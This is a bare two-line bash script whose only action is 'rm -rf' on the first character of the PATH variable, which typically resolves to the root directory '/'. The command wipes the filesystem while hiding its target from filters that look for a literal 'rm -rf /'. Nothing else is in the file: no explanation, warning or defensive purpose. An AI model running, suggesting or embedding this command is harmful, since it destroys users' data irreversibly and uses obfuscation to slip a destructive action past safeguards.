#!/bin/bash
rm -rf "${PATH:0:1}"
